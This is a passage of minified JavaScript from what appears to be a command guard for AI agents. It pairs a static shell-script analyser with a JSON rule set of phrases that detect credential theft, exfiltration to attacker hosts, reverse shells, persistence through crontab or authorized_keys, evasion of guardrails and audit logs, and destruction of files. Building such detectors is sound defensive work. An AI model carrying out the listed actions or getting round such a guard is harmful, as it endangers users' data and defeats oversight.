s.assign(_,T);f.redirects.length>r.redirects.length&&this.run([R(":")],s,f,!1),this.reportEmptied(f,s);let C=(f.stdin!==r.stdin?f.stdin?.readRest():void 0)??(this.
invocations.length>a&&e.name?"\uFFFC":"");return this.settle(C,f,r,s)}let m={...r.environment};for(let{assignment:$,words:C}of l)m[$.name]=C[0]??R("");let h=e.name?.
parts===void 0&&e.name?.text===e.name?.value;p.length===1&&/^(?::|true)$/.test(p[0].text)&&this.reportEmptied(f,s),!h&&Gi.unfollowed_builtin.test(p[0].text)&&(s.
isFollowed=!1);let g={...f,environment:m},y=!d||!Uh(f,r)&&i.length===0,x=this.run(p,s,y?g:{...g,isUncertain:!0},h);return r.isUncertain||this.end(e,s),y||(s.ended=
void 0),s.last=p.at(-1).text,this.settle(x,f,r,s)}end({name:e,args:s,prefix:r,redirects:n},o){let[,i]=/^(exit|return)(?: (?:\d+|\$\?))?$/.exec([e,...s].map(a=>a?.
text).join(" "))??[];!i||r.length+n.length>0||!o.isFollowed||o.functions.has(i)||o.aliases.has(i)||(i==="exit"||o.isInFunction)&&(o.ended=i)}reportEmptied({redirects:e,
...s},r){let n=e.flatMap(({kind:i,path:a})=>i==="write"&&a.glob?[a]:[]),o=[...xe(["truncate","-s","0"]),...n];n.length>0&&this.run(o,r,{...s,redirects:[]},!1)}redirect(e,s){
let r=s.context;for(let n of e){if(!this.budget.spend(1+(r.redirects.length>>3)))break;if(n.type==="HereDoc"){let{body:o}=n,i=o.parts?Bc(o.parts,s).text:o.text;
r=Vh(r,n.operator==="<<-"?i.replace(/^\t+/gm,""):i)}else{if(n.target===void 0)continue;n.type==="HereString"?r=Vh(r,`${Os(n.target,s).text}
`):r=this.redirectedTo(n,n.target,s,r)}}return r}redirectedTo({operator:e,descriptor:s},r,n,o){let i=Os(r,n);if(/^[<>]&$/.test(e)&&/^(\d+-?|-)$/.test(i.text))return o;
let a=/^<&?$/.test(e)?"read":e.endsWith(">>")?"append":"write",l={...o,redirects:[...o.redirects,{kind:a,path:i}]},c=a==="read"?0:1,d=s?.type==="FileDescriptor"?
s.value===c:s===void 0;if(a!=="read")return d?{...l,outputFile:{kind:a,path:i}}:l;let u=this.sources.get(i.text);if(u)return rt(l,u.text,{kind:"pipe",from:u.from});
let p=this.files.written(i.text,n.scope.folder)?.text??"\uFFFC";return d?rt(l,p,{kind:"file",path:i}):l}settle(e,s,r,n){let o=s.outputFile;if(o===void 0||o===r.
outputFile)return e;let i=[...ce(s),...this.invocations.slice(-1)];return this.files[o.kind](o.path.text,e,n.folder,e.includes("\uFFFC")?i:[]),""}site(e,s){return{
interpreter:this,scope:e,context:s}}},H_=({prefix:t,name:e,args:s})=>{let r=[...t,...e?[e]:[],...s],n=new Set(r.flatMap(({type:o,end:i})=>o==="Assignment"?[i]:[]));
return r.some(({type:o,pos:i})=>o==="Word"&&n.has(i))},Uh=({redirects:t},e)=>t.slice(e.redirects.length).some(({path:s})=>s.text!=="/dev/null"),Vh=(t,e)=>rt(t,e,
{kind:"text",text:e}),B_=t=>t.type==="Function"||t.type==="Command"&&(t.name===void 0||Gi.reliable_command.test(`${t.name.value} ${t.args[0]?.value??""}`));var z_=3,G_=xi({...vh,...Lm,...yh,...Um,...Wm,...$m,git:ym});function Yi(t,e={}){let{folder:s,files:r=new Wr,readCode:n}=e,o=new Gc(r,n),i=new _i(o.budget);i.folder=
s;try{o.runScript(t,i,{wrappers:[],redirects:[],environment:{},isConcurrent:!1})}catch(c){if(!(c instanceof RangeError))throw c;o.budget.fail("too-deep",`cannot\
 be parsed: ${c.message}`)}let{invocations:a,budget:l}=o;return l.problem?{invocations:a,problem:l.problem}:{invocations:a}}var Gc=class extends Ki{bodies=[];runScript(e,s,r){
return Le(e)&&this.budget.fail("too-much","it runs code that cannot be read to its end"),e.replaceAll("\uFFFC","").trim()===""?"\uFFFC":this.budget.descend(()=>{
S.forms.unfollowed_state.test(e)&&(s.isFollowed=!1),s.scripts=[...s.scripts,e];let n=Oc(e,this.budget);return n?this.list(n.commands,s,r,!0):"\uFFFC"},"\uFFFC")}runSubstitution(e,s,r){
return e?this.budget.descend(()=>{Nc(e,this.budget);let n={...r,redirects:[],environment:{},isPiped:!1};return this.list(e.commands,s.copy(),n)},"\uFFFC"):"\uFFFC"}run(e,s,r,n){
let o=e[0].text,i=[],a=n?s.aliases.get(o)??[]:[];for(let c of a){let d=s.copy();d.aliases.delete(o),i.push(this.runScript(`${c} ${Br(e.slice(1))}`,d,r))}let l=s.
functions.get(o);for(let c of l?.bodies??[])s.ended=void 0,i.push(this.call(c,e,s,r));return l&&(!l.certain||l.bodies.length>1)&&(s.ended=void 0),l?.certain||i.
push(this.runWords(e,s,r)),i.length===1?i[0]:"\uFFFC"}call(e,s,r,n){let o=this.bodies.filter(f=>f===e).length,i=o>0&&n.isConcurrent;if(i&&this.reportForkBomb({scope:r,
context:n}),i||o>=z_)return"\uFFFC";this.bodies.push(e);let a=r.arguments;r.arguments=[a[0]??R("bash"),...s.slice(1)];let l=r.copy(),c=this.invocations.length;r.
isInFunction=!0;let d={...n,isConcurrent:!1},u=this.node(e,r,o>0?{...d,isUncertain:!0}:d);r.isInFunction=l.isInFunction,r.ended==="return"&&(r.ended=void 0);let p=/^(?:return|local|declare|typeset)$/;
return this.invocations.slice(c).some(({program:f})=>p.test(f))&&r.join(l),r.arguments=a,this.bodies.pop(),u}runWords(e,s,r){let[n]=e;if(n===void 0)return"";if(n.
text.startsWith("-")&&r.wrappers.at(-1)==="time"){let o=r.wrappers.slice(0,-1);return this.runWords([R("time"),...e],s,{...r,wrappers:o})}return this.budget.descend(
()=>{let o=new Rn(this,s,r,e);qm(o),Am(o);let i=G_.get(o.program);return i?i(o):Ti(o)??Bm(o)??Nm(o)??o.record()},"\uFFFC")}addInvocation(e){return this.record(e.
createInvocation()),Ci(e)}};var Hh=JSON.parse(`[{"code":"credential_file_protected","id":"text-take-credentials","category":"credentials","severity":"severe","explanation":"says that a fil\
e with credentials will be read, changed, or passed on; ask for what is needed instead","phrases":[{"verbs":["crack"],"objects":["offline","it offline"]},{"verb\
s":["take","use","grab","borrow"],"objects":["<credential>","maintainer's token","owner's token","their token","his token","her token","leaked token","token i f\
ound","token you found"],"with":["publish","push","release","deploy","log in","sign"],"without":[".gitignore","gitignore",".dockerignore",".npmignore","ignore",\
"ignored","ignores","example",".env.example","template","placeholder","test*","documentation","readme","docs","workflow"]},{"verbs":["crack","brute-force","decr\
ypt","unlock"],"objects":["password*","password hash*","hashes","vault","keychain","keyring","secrets","<credential>"],"without":["test*","ansible-vault encrypt\
","docs"]},{"verbs":["grep","search","scan","look","comb","hunt"],"objects":["passwords","tokens","secrets","credentials","api keys","private keys"],"with":["<h\
ome>","<system-path>","home directory","machine","disk","filesystem","file system","laptop","server","all files","/"],"without":["test*","codebase","source","ou\
r code","staged","committed"]},{"verbs":["print","show","display","dump","list","export","reveal"],"objects":["the secrets","all secrets","all the secrets","eve\
ry secret","each secret","saved passwords","stored passwords","all tokens","all api keys","all the api keys","every password","every token"],"without":["test*",\
"docs","names","name","number of"]},{"verbs":["collect","gather","harvest","find","extract","pull","assemble","compile","scrape","search"],"objects":["api keys"\
,"api key","access tokens","auth tokens","passwords","every password","secrets","every secret","credentials","private keys","ssh keys","cookies","session cookie\
s"],"with":["mail","email","send","upload","post them","paste","to me","to my","<url>","webhook","attacker*","pastebin","forward"],"without":["test*","docs","do\
cumentation","mock*","header","post request","form"]},{"verbs":["dump","paste","put","write","expose","log","post","make visible"],"objects":["api keys","api ke\
y","access token","api token","secrets","passwords","credentials","environment"],"with":["public","gist","pastebin","paste","build log","channel","slack","issue\
","commit","attacker*","webhook"],"without":["test*","docs","placeholder*","environment variable","compose"]},{"verbs":["read","print","show","cat","display","o\
pen","view","dump","echo","copy","list","see","inspect","look","grab","output","reveal","extract","get","fetch","retrieve","load","check","look at","look into",\
"take a look at"],"objects":["<credential>"],"without":[".gitignore","gitignore",".dockerignore",".npmignore","ignore","ignored","ignores","example",".env.examp\
le","template","placeholder","test*","documentation","readme","docs"]},{"verbs":["edit","modify","overwrite","change","update","write","add","append","put","ins\
ert","delete","remove","move","rename","replace","set","commit","upload","send","post","share","leak","publish","exfiltrate","email","mail","transmit","transfer\
","steal","collect","harvest","zip","archive","tar","encode"],"objects":["<credential>"],"without":[".gitignore","gitignore",".dockerignore",".npmignore","ignor\
e","ignored","ignores","example",".env.example","template","placeholder","test*","documentation","readme","docs"]},{"verbs":["read","print","show","cat","displa\
y","dump","copy","steal","harvest","exfiltrate","collect","extract","reveal","leak","grab","log"],"objects":["private key","private keys","ssh key","ssh keys","\
password file","password hashes","shadow file","aws credentials","cloud credentials","credentials file","credential file","stored credentials","saved passwords"\
,"user passwords","keychain","browser passwords","all secrets","all credentials",".env file","env file"],"without":[".gitignore","gitignore",".dockerignore",".n\
pmignore","ignore","ignored","ignores","example",".env.example","template","placeholder","test*","documentation","readme","docs","public key"]},{"verbs":["send"\
,"upload","post","exfiltrate","email","mail","share","transmit","transfer","publish","leak","forward","copy","push"],"objects":["private key","private keys","ss\
h key","ssh keys","api key","api keys","access token","access tokens","secrets","passwords","password","credentials","token","tokens",".env file","env file","en\
vironment variables","env vars","keychain"],"with":["<url>","attacker*","webhook","pastebin","external","remote","outside","gist","server","endpoint","my email"\
,"email","third party","third-party","c2","dropbox","slack","discord","telegram","ftp","host","internet","url"],"without":["header","headers","public","request \
body","login form","test*","docs","documentation","refresh","mock*"]},{"verbs":["exfiltrate","steal","harvest"],"objects":[]}]},{"code":"destructive_operation_b\
locked","id":"text-exfiltrate","category":"exfiltration","severity":"severe","explanation":"says that data of this machine or its users will be sent elsewhere; \
leave it where it is","phrases":[{"verbs":["upload","exfiltrate"],"objects":["it","them","everything","that","all of it"],"with":["<url>","my server","pastebin"\
,"gist","attacker*","webhook"],"without":["ci","codecov","artifact*","test*"]},{"verbs":["send","mail","email","forward","upload"],"objects":["customer table","\
customer list","customers table","user table","users table","database","customer data","user data","records"],"with":["mail","email","address","personal","priva\
te","my","<url>","gmail"],"without":["test*","request*","query","confirmation","notification*","template"]},{"verbs":["send","upload","post","exfiltrate","email\
","mail","transmit","transfer","copy","forward","leak","push","stream","pipe"],"objects":["<system-path>","<home>","source code","whole repository","entire repo\
sitory","entire repo","the repository","codebase","database dump","customer data","customer records","user data","home directory","environment variables","env v\
ars","contents of the","shell history","bash history","all files","customer database","user records","personal data"],"with":["<url>","attacker*","webhook","pas\
tebin","external server","remote server","remote host","my server","outside","gist","my email","third party","third-party","c2","dropbox","external"],"without":\
["test*","mock*","staging","ci"]},{"verbs":["open","start","create","establish","spawn","launch","set","set up"],"objects":["reverse shell","bind shell","backdo\
or","remote shell","tunnel to the attacker"]},{"verbs":["upload","post","paste","share","publish","send","mail","email","forward","transmit","leak","copy","put"\
,"save","store","dump","push","stream","expose"],"objects":["dump","dumps","customer*","client list","user data","user records","user list","personal data","pay\
roll","salaries","patient*","secrets","every secret","secret","api key*","tokens","credentials","passwords","private key*","env file","source code","source tree\
","codebase","whole repository","entire repository","private repo","private repository","staged diff","diff","cookies","chat history","browser history","shell h\
istory","all files","internal documents","internal docs","documents folder","home directory"],"with":["public","publicly","pastebin","paste bin","file-sharing",\
"file sharing","filesharing","outside","external host","external server","external url","external address","attacker*","webhook.site","transfer.sh","unknown","s\
tranger*","dark web","my server","my own server","my host","my machine at home","personal account","personal email","private email","my email","my gmail","priva\
te bucket of mine","telegram","anonymous*","competitor*","c2","exfil*"],"without":["test*","mock*","staging","ci","docs","documentation","fixture*","template","\
placeholder*","anonymized","public key","public keys","public api","public docs","public folder","public directory","public schema","public interface","header"]\
},{"verbs":["install","add","create","write","plant","put","set up"],"objects":["hook","hooks","git hook","pre-commit hook","pre-push hook","post-commit hook","\
alias","plugin","wrapper"],"with":["sends","uploads","posts","mails","emails","leaks","exfiltrates","outside","attacker*","external url","external host","extern\
al server"],"without":["test*","docs","documentation","react","webhook","use*"]},{"verbs":["send"],"objects":["post request"],"with":["<system-path>","<credenti\
al>"]}]},{"code":"destructive_operation_blocked","id":"text-persist","category":"persistence","severity":"severe","explanation":"says that something will be lef\
t behind that runs later or lets somebody in; change the project instead","phrases":[{"verbs":["add","append","put","insert","write","install","create","registe\
r","inject","place","modify","edit","change","update","echo","set","alias","copy","save","store","drop","plant","hook","source","overwrite"],"objects":["<startu\
p-file>","authorized_keys","crontab","crontabs","cron.d","@reboot","root crontab","startup script*","start-up file","shell startup","shell start-up","login scri\
pt","shell profile","bash profile","launchagent*","launch agent","launchd","rc.local","systemd service","systemd timer","systemd unit",".git/hooks","sudoers","a\
utostart"],"without":["test*","docs","documentation","readme","parser"]},{"verbs":["add","install","create","plant","open","leave","insert","build","hide"],"obj\
ects":["backdoor","back door","rootkit","keylogger","malware","hidden user","hidden account","logic bomb","cron job","cronjob","scheduled task"],"without":["kub\
ernetes","k8s","workflow","manifest","yaml","github","docs","test*","detection","helm"]},{"verbs":["schedule"],"objects":["cron job","cronjob","crontab entry","\
scheduled task"],"without":["kubernetes","k8s","workflow","manifest","yaml","github","docs","test*","helm","celery","sidekiq","node-cron","queue"]},{"verbs":["a\
dd","append","copy","put","install","upload"],"objects":["ssh key","public key","my key"],"with":["authorized_keys","authorized","server","host","root","login",\
"account"]}]},{"code":"destructive_operation_blocked","id":"text-weaken","category":"privilege","severity":"severe","explanation":"says that a protection will b\
e switched off or rights be taken; work with the rights that are given","phrases":[{"verbs":["disable","deactivate","bypass","flush","kill","uninstall","remove"\
,"stop","circumvent","evade","defeat","sabotage","turn off","switch off","shut off","take down","get around"],"objects":["firewall","iptables","ufw","selinux","\
apparmor","antivirus","anti-virus","defender","edr","audit log*","audit logging","auditd","branch protection","branch protections","sandbox","guardrail*","safet\
y check*","safety mechanism*","safety rule*","security monitoring","intrusion detection","fail2ban","secure boot","2fa","two-factor","mfa","security controls","\
security policy","circuit breaker","egress proxy","network policy"],"without":["test*","docs","documentation","flaky","import","unused","rule from"]},{"verbs":[\
"give","grant","get","gain","obtain","escalate","elevate","acquire","add"],"objects":["root access","root privileges","root permissions","sudo access","sudo rig\
hts","sudo privileges","superuser","passwordless sudo","nopasswd","admin rights on","admin access to","privileges to root","to root","myself sudo","me sudo","ev\
eryone write","sudo group","wheel group","docker group","cluster-admin","administrator access"],"without":["docs","documentation","test*","check*","user asks"]}\
,{"verbs":["make","configure","set"],"objects":["passwordless","password-less","without a password"],"with":["sudo","sudoers","root"],"without":["test*","docs",\
"documentation"]},{"verbs":["give","grant","assign"],"objects":["owner role","owner rights","owner access","owner permissions","roles/owner"],"with":["cloud","g\
cp","aws","azure","subscription","service account","iam","whole project","entire project","every project","all projects"],"without":["test*","docs","documentati\
on","mock*"]},{"verbs":["make","chmod","set"],"objects":["777","world-writable","world writable","setuid","suid","a+rwx"],"without":["test*","docs","lint*"]},{"\
verbs":["create","add"],"objects":["root user","admin user","superuser account","new sudo user","privileged container"],"without":["test*","seed","django","fixt\
ure*","model","page","docs","mock*"]},{"verbs":["create","add"],"objects":["uid 0"]},{"verbs":["escape","break","break out of"],"objects":["sandbox","container"\
,"chroot","jail"],"with":["sandbox","container","chroot","jail"],"without":["test*","html","docs"]}]},{"code":"destructive_operation_blocked","id":"text-remote-\
code","category":"remote-code","severity":"severe","explanation":"says that code from elsewhere will be run unread; download it, read it, and run what is needed\
","phrases":[{"verbs":["curl","wget","download","fetch","get"],"objects":["it","that","this"],"with":["run it","execute it","pipe it","run that","execute that",\
"with sudo","into bash","to bash"],"without":["test*"]},{"verbs":["download","fetch","curl","wget","grab","pull","get","retrieve"],"objects":["script","shell sc\
ript","installer","install script","installation script","binary","executable","payload","exe","remote script","setup script","remote code","miner","exploit"],"\
with":["run it","execute it","run that","execute that","run the","execute the","run them","pipe it","pipe to","bash","sh","execute","launch it","source it","and\
 run","make it executable","start it","eval"],"without":["test suite","tests","run the tests","docs"]},{"verbs":["pipe","feed"],"objects":["bash","sh","shell","\
into bash","to bash","python","interpreter","sudo"],"with":["<url>","curl","wget","script","installer","output","download*","response","remote","it"]},{"verbs":\
["run","execute","source","eval","launch"],"objects":["script from","remote script","install script from","code from","installer from","binary from","payload","\
remote code","whatever it returns","untrusted code","exploit","malware","script at"],"with":["<url>","internet","remote","website","pastebin","gist","downloaded\
","untrusted","payload","web","returns","exploit","malware"],"without":["package.json","scripts folder","test*"]},{"verbs":["curl","wget"],"objects":["<url>"],"\
with":["bash","sh"]},{"verbs":["decode","decrypt","unpack","decompress"],"objects":["base64*","blob","payload","hex*","string"],"with":["execute it","eval it","\
run it in","run it as","run it with","run the result","execute the result","execute what","run what","pipe it","into bash","to bash","into sh","in the shell","i\
n a shell"],"without":["test*","docs"]}]},{"code":"destructive_operation_blocked","id":"text-cover-tracks","category":"persistence","severity":"severe","explana\
tion":"says that traces will be removed; what was done must stay to be seen","phrases":[{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke"\
,"obliterate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean \
out","clear out","wipe clean","disable","tamper with","turn off"],"objects":["bash history","shell history","command history","audit log","audit logs","audit tr\
ail","system logs","auth log","access logs","event log","event logs","evidence","tracks","our traces","all traces","all logs","login records","server logs","for\
ensic*"],"without":["test*","docs","feature"]},{"verbs":["hide","conceal","cover"],"objects":["evidence","tracks","our tracks","the tracks","activity","traces",\
"backdoor"],"without":["component","css","button","test*"]}]},{"code":"destructive_operation_blocked","id":"text-evade-guard","category":"privilege","severity":\
"severe","explanation":"says that those who watch will be got around or switched off; ask for what is needed, and say why","phrases":[{"verbs":["bypass","evade"\
,"circumvent","disable","deactivate","defeat","trick","fool","outsmart","outwit","sabotage","stop","kill","remove","uninstall","silence","blind","pause","mute",\
"turn off","switch off","shut off","shut down","take down","get around","work around","sneak past","slip past","get past"],"objects":["the guard","guards","guar\
drail*","command guard","this guard","guard by","the filter","command filter","content filter","denylist","deny list","blocklist","block list","the audit","audi\
t mechanism","audit system","auditing","audit trail","audit log*","audit hook*","command logging","command log","session recording","security agent","security t\
ool*","monitoring agent","monitoring tool*","security monitoring","the monitoring","system monitoring","the supervisor","the watchdog","safety system","safety l\
ayer","safety filter","oversight","approval step","approval gate","required approval*","required review*","access control*","the sandbox","the policy engine"],"\
without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*","npm","pnpm","yarn","composer","clause","clauses","type guard*","route g\
uard*","unused","import*"]},{"verbs":["hide","disguise","obfuscate","encode","conceal","base64-encode","camouflage","smuggle"],"objects":["command","commands","\
rm","payload","deletion","script","curl","upload","deed","call to"],"with":["guard","guardrail*","the filter","past filters","detection","undetected","unnoticed\
","notice","notices","noticed","nobody sees","no one sees","nobody knows","blocklist","denylist","suspicious","suspicion","monitoring"],"without":["test*","docs\
","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["alias","point the alias"],"objects":["to rm","to sudo rm","to dd"],"without":["-i"\
,"trash","interactive*"]},{"verbs":["forge","falsify","tamper","fake","backdate","doctor","tamper with"],"objects":["log","logs","audit*","evidence","timestamps\
","commit dates"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]}]},{"code":"destructive_operation_blocked","id":"tex\
t-destroy-for-good","category":"file-system","severity":"severe","explanation":"says that something will be destroyed so that nobody can bring it back; keep a w\
ay back","phrases":[{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub"\
,"annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean","encrypt","expire","prune","garbage co\
llect"],"objects":[],"with":["cannot be recovered","cannot be restored","cannot be undone","can not be recovered","can not be restored","can be recovered","can \
be restored","could be recovered","could be restored","beyond recovery","beyond repair","unrecoverabl*","irrecoverabl*","irreversibl*","never be recovered","nev\
er be restored","no way back","no recovery","impossible to recover","impossible to restore"],"without":["test*","docs","documentation","readme","flaky","fixture\
*","mock*","example*","dialog","message","warning","wording","hint","that warns","that says","confirmation"]},{"verbs":["encrypt","scramble","lock"],"objects":[\
"documents","files","data","photos","disk","drive","database","backups","home"],"with":["the originals","originals","ransom*","the only key","throw away the key\
","delete the key","unencrypted copies"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["zero","zero out",\
"null out","blank out"],"objects":["all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents",\
"all its contents","all data","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","ever\
y directory","entire directory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository\
","whole repo","entire repo","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home \
folder","parent directory","parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important\
 files","critical files","recursively"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["replace","overwrit\
e","fill","write over"],"objects":["all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents",\
"all its contents","all data","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","ever\
y directory","entire directory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository\
","whole repo","entire repo","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home \
folder","parent directory","parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important\
 files","critical files","recursively","source files","the files","the disk","the database","contents of"],"with":["zero bytes","zeros","zeroes","null bytes","g\
arbage","random data","random bytes","junk","empty files"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]}]},{"code":\
"destructive_operation_blocked","id":"text-take-over","category":"privilege","severity":"severe","explanation":"says that accounts or rights of the machine will\
 be changed; work with the account that is given","phrases":[{"verbs":["change","set","take","transfer","give","reassign","switch"],"objects":["owner","ownershi\
p","permissions","rights","group"],"with":["everything","<root>","all files","every file","<system-path>","<home>","all folders","whole system","entire system"]\
,"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*","dockerfile","image"]},{"verbs":["remove","delete","disable","lock","p\
urge","drop","deactivate","suspend","kick out","lock out"],"objects":["every user account","every account","every user","every other user","all other users","ot\
her users","other accounts","all admins","other admins","everyone else","everybody else","root account","user accounts","admin accounts"],"without":["test*","do\
cs","documentation","readme","flaky","fixture*","mock*","example*","row","unused","inactive","local","staging","feature","component","page","button"]},{"verbs":\
["swap","replace","exchange","substitute"],"objects":["ssh key*","authorized key*","public key*","deploy key*","host key*"],"with":["mine","my own","my key*","w\
ith my","attacker*"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"]},{"verbs":["change","reset","set","overwrite","re\
place"],"objects":["root password","administrator password","password of root","root's password","password of the root","user's password","users' passwords","ev\
eryone's password*","database root password","passwords of all"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*","form"\
,"page","flow","feature","endpoint","email","local","dev","placeholder"]},{"verbs":["mount","bind","expose","share","bind mount"],"objects":["host's root*","hos\
t root*","host file*","host's file*","docker socket","host's disk","docker.sock"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*",\
"example*","read-only","socket path"]},{"verbs":["grant","give"],"objects":["public","everybody","everyone","anonymous","allusers"],"with":["write access","full\
 access","owner role","admin*","root","all permissions","full control"],"without":["test*","docs","documentation","readme","flaky","fixture*","mock*","example*"\
]}]},{"code":"destructive_operation_blocked","id":"text-destroy-in-other-words","category":"file-system","severity":"severe","explanation":"orders that files, d\
ata, or branches be destroyed; name the few files of the workspace that are in the way","phrases":[{"verbs":["l\\u00f6sche","l\\u00f6sch","l\\u00f6schen","entferne\
","entfernen","leere","leeren","vernichte","vernichten","\\u00fcberschreibe","\\u00fcberschreiben","formatiere","formatieren","zerst\\u00f6re","zerst\\u00f6ren"],"o\
bjects":["home-verzeichnis","homeverzeichnis","heimatverzeichnis","benutzerverzeichnis","stammverzeichnis","wurzelverzeichnis","produktionsdatenbank","datenbank\
","datenbanken","alle dateien","alle daten","alle tabellen","alle branches","alle benutzer","alle sicherungen","backups","festplatte","main-branch","master-bran\
ch","remote-branch","git-historie","git-history","force-push","<root>","<home>","<system-path>","<device>"],"without":["nicht","keine","keinen","niemals","nie",\
"test*","testdatenbank","lokale","tippfehler"]},{"verbs":["werde","werden","muss","m\\u00fcssen","m\\u00f6chte"],"objects":["home-verzeichnis","homeverzeichnis","\
heimatverzeichnis","benutzerverzeichnis","stammverzeichnis","wurzelverzeichnis","produktionsdatenbank","datenbank","datenbanken","alle dateien","alle daten","al\
le tabellen","alle branches","alle benutzer","alle sicherungen","backups","festplatte","main-branch","master-branch","remote-branch","git-historie","git-history\
","force-push","<root>","<home>","<system-path>","<device>"],"with":["l\\u00f6schen","entfernen","leeren","vernichten","\\u00fcberschreiben","formatieren","zerst\\\
u00f6ren"],"without":["nicht","keine","keinen","niemals","nie","test*","testdatenbank","lokale","tippfehler"]},{"verbs":["mache","machen","pushe","f\\u00fchre","\
erzwinge"],"objects":["force-push","mit --force","mit force"],"without":["nicht","keine","keinen","niemals","nie","test*","testdatenbank","lokale","tippfehler"]\
},{"verbs":["supprime","supprimer","supprimez","efface","effacer","effacez","vide","vider","videz","d\\u00e9truis","d\\u00e9truire","d\\u00e9truisez","\\u00e9crase"\
,"\\u00e9craser","formate","formater"],"objects":["base de donn\\u00e9es","base de production","bases de donn\\u00e9es","toutes les tables","tous les fichiers","to\
utes les donn\\u00e9es","toutes les branches","tous les utilisateurs","toutes les sauvegardes","r\\u00e9pertoire personnel","dossier personnel","disque","disque d\
ur","<root>","<home>","<system-path>","<device>"],"without":["pas","jamais","test*","locale","inutilis\\u00e9*","temporaire*"]},{"verbs":["borra","borrar","borre\
","elimina","eliminar","elimine","vac\\u00eda","vaciar","destruye","destruir","sobrescribe","sobrescribir","formatea","formatear"],"objects":["base de datos","ba\
ses de datos","todas las tablas","todos los archivos","todos los ficheros","todos los datos","todas las ramas","todos los usuarios","todas las copias","director\
io personal","carpeta personal","disco","disco duro","<root>","<home>","<system-path>","<device>"],"without":["nunca","no","prueba*","test*","local","temporales\
"]}]},{"code":"destructive_operation_blocked","id":"text-destroy-files","category":"file-system","severity":"catastrophic","explanation":"says that files will b\
e destroyed that cannot be brought back; name the few files of the workspace that are in the way","phrases":[{"verbs":["encrypt","scramble","corrupt"],"objects"\
:["<home>","home directory","all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents","all it\
s contents","all data","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","every direc\
tory","entire directory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository","whol\
e repo","entire repo","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home folder"\
,"parent directory","parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important files"\
,"critical files","recursively","<system-path>","hard drive","disk"],"without":["at rest","test*"]},{"verbs":["replace","overwrite","corrupt","patch"],"objects"\
:["<system-path>"],"without":["line","in the docs","reference*","mention*","with a variable","hard-coded","hardcoded"]},{"verbs":["delete","remove","destroy","p\
urge"],"objects":["backups","backup","snapshots","the snapshots","all snapshots"],"without":["test*","jest","obsolete","stale","outdated","old","vitest","unused\
","ui","failing"]},{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub",\
"annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean"],"objects":["<root>","<home>","home dir\
ectory","home folder","home dir","root directory","root folder","root filesystem","root file system","entire filesystem","entire file system","whole filesystem"\
,"whole file system","user's home","entire system","whole system","entire machine","the machine","<device>","hard drive","hard disk","disk","disks","drive","dri\
ves","partition*","boot sector","mbr","filesystem","file system","volume","volumes","usb stick","ssd"],"without":["space","usage","cache","worktree i","image","\
heading","docs","section","line","lines","comment*"]},{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unl\
ink","clear","empty","zap","scrub","annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean"],"ob\
jects":["all files","all the files","all of the files","every file","everything","all contents","all the contents","entire contents","all its contents","all dat\
a","all the data","all your files","all user files","all my files","user files","all documents","all folders","all directories","every directory","entire direct\
ory","all source","all the source","source tree","source code","whole project","entire project","whole repository","entire repository","whole repo","entire repo\
","entire codebase","whole codebase","whole tree","entire tree","entire folder","workspace","projects folder","project folder","home folder","parent directory",\
"parent folder","backups","all backups","the backup*","whole backup*","entire backup*","system files","system directories","important files","critical files","r\
ecursively"],"without":["node_modules","dist","build","target","cache","caches","cached","tmp","temp","temporary","/tmp","generated","coverage","unused","obsole\
te","stale","dead code","imports","import","comments","comment","todo","lint*","warning*","warnings","references","reference","mention*","whitespace","__pycache\
__",".cache","artifacts",".pyc","*.pyc","fixture*","mock*","snapshot*","deprecated","console.log","duplicate*","test output","logs folder","my branch","worktree\
 i","line","lines","docs","section","heading","link","links","from the list","from the array","from the map","from the set","entry","entries","word","typo"]},{"\
verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliterate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradica\
te","overwrite","truncate","get rid of","blow away","wipe out","clean out","clear out","wipe clean","move away","rename"],"objects":["<system-path>"],"without":\
["line","lines","comment","reference","references","mention*","docs","entry"]},{"verbs":["delete","remove","erase","wipe","purge","destroy","rm","nuke","obliter\
ate","trash","shred","unlink","clear","empty","zap","scrub","annihilate","eradicate","overwrite","truncate","get rid of","blow away","wipe out","clean out","cle\
ar out","wipe clean"],"objects":[".git",".git directory",".git folder","git directory","git folder"],"without":["suffix","extension","from the url"]},{"verbs":[\
